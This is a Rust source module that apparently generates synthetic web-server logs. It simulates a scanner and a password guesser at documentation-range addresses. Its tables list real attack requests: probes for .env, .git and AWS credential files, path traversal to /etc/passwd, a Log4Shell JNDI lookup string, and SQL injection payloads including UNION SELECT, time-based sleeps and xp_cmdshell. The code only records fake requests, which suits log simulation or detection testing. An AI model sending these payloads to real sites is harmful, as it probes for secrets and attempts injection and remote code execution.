//! The attackers: one looks for holes (well-known files, then SQL injection), one guesses
//! passwords. Both send one request after another, far faster than people do.

use super::address::Address;
use super::agents::{GUESSER, SCANNERS};
use super::clock::Actor;
use super::digits::decimal;
use super::request::Request;
use super::rng::Rng;
use super::service::Service;
use super::site::ERROR_PAGE;
use super::spread::log_normal;

/// The address of the scanner (TEST-NET-3) and that of the password guesser (TEST-NET-2).
pub(super) const ADDRESSES: [Address; 2] =
    [Address::V4([203, 0, 113, 7]), Address::V4([198, 51, 100, 23])];

/// What a scanner looks for, and what the site answers.
#[rustfmt::skip]
const PROBES: &[(&str, u16)] = &[
    ("/", 200), ("/robots.txt", 200), ("/.env", 403), ("/.git/HEAD", 403), ("/.git/config", 403),
    ("/.aws/credentials", 403), ("/.htaccess", 403), ("/.svn/entries", 403), ("/.DS_Store", 404),
    ("/wp-login.php", 404), ("/wp-admin/setup-config.php", 404), ("/xmlrpc.php", 404),
    ("/wp-content/plugins/revslider/temp/update_extract/", 404), ("/wp-json/wp/v2/users", 404),
    ("/phpmyadmin/index.php", 404), ("/phpMyAdmin/scripts/setup.php", 404), ("/pma/", 404),
    ("/mysql/admin/", 404), ("/adminer.php", 404), ("/phpinfo.php", 404), ("/info.php", 404),
    ("/admin/", 401), ("/administrator/index.php", 404), ("/manager/html", 404),
    ("/server-status", 403), ("/actuator/env", 403), ("/actuator/heapdump", 403),
    ("/solr/admin/info/system?wt=json", 404), ("/console/", 404), ("/_profiler/phpinfo", 404),
    ("/cgi-bin/test-cgi", 404), ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("/backup.sql", 404),
    ("/db.sql.gz", 404), ("/dump.tar.gz", 404), ("/config.php.bak", 404), ("/web.config", 404),
    ("/../../../../etc/passwd", 400), ("/static/..%2f..%2f..%2fetc%2fpasswd", 400),
    ("/boaform/admin/formLogin?username=admin&psd=admin", 404),
    ("/owa/auth/logon.aspx", 404), ("/remote/login?lang=en", 404), ("/HNAP1/", 404),
    ("/?x=${jndi:ldap://203.0.113.7:1389/a}", 403),
];

/// Injections; a random number is appended to each, as sqlmap does.
#[rustfmt::skip]
const INJECTIONS: &[(&str, u16)] = &[
    ("/search?q=lamp%27%20AND%201%3D1--%20", 403),
    ("/search?q=lamp%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x71%2Cversion%28%29%29--%20", 403),
    ("/search?q=1%27%29%3BSELECT%20PG_SLEEP%285%29--", 403),
    ("/api/products?page=1%20OR%20SLEEP%285%29&per_page=", 400),
    ("/api/products/SKU-10001%27%20OR%20%271%27%3D%271", 404),
    ("/api/users/1%20OR%201=1/orders?n=", 500),
    ("/c/sale?page=-1%20UNION%20SELECT%20table_name%20FROM%20information_schema.tables--%20", 403),
    ("/c/sale?sort=price%3B%20EXEC%20xp_cmdshell%28%27dir%27%29--", 403),
];

/// Both attackers, in the middle of what they do.
#[derive(Clone, Debug, Default)]
pub(super) struct Attack {
    probe: usize,
    injections: usize,
}

impl Attack {
    /// The next request of the scanner or the guesser.
    pub(super) fn fill(&mut self, guesses: bool, rng: &mut Rng, request: &mut Request) {
        request.actor = Actor::Attacker { guesses };
        request.client = ADDRESSES[usize::from(guesses)];
        request.version = "HTTP/1.1";
        request.service = Service::Gateway;
        request.bytes = ERROR_PAGE;
        request.micros = log_normal(rng, 900, 200);
        if guesses {
            request.agent = GUESSER;
            request.method = "POST";
            request.path.extend_from_slice(b"/login");
            request.service = Service::Auth;
            request.micros = log_normal(rng, 190_000, 60);
            request.status = if rng.chance(120) { 429 } else { 401 };
            return;
        }
        request.method = "GET";
        // The list of files once, then about twice as many injections, and again.
        if self.probe < PROBES.len() {
            request.agent = SCANNERS[0];
            let (path, status) = PROBES[self.probe];
            request.path.extend_from_slice(path.as_bytes());
            request.status = status;
            self.probe += 1;
            return;
        }
        request.agent = SCANNERS[1];
        let (path, status) = INJECTIONS[self.injections % INJECTIONS.len()];
        request.path.extend_from_slice(path.as_bytes());
        decimal(&mut request.path, 1000 + u64::from(rng.below(9000)));
        request.status = status;
        self.injections += 1;
        if self.injections.is_multiple_of(2 * PROBES.len()) {
            self.probe = 0;
        }
    }
}
